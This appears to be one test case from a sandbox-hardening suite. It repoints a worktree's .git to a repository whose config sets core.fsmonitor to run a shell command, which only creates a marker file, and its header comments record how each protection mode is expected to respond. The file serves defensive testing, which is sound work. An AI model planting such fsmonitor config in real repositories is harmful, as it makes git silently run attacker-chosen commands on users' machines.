# attack: points the worktree at a repository of its own, for the engine to work in
# group: git
# sandboxed: stopped
# restricted: stopped
# unprotected: detected (tampered)
from prepare import *

import subprocess


def repository():
    subprocess.run(["git", "init", "-q", "mine"], check=True)
    with open("mine/.git/config", "a") as file:
        file.write(f"[core]\n\tfsmonitor = touch {HOST}/ran; false\n")
    os.unlink(".git")
    with open(".git", "w") as file:
        file.write(f"gitdir: {os.getcwd()}/mine/.git\n")


finish()
attempt(repository)
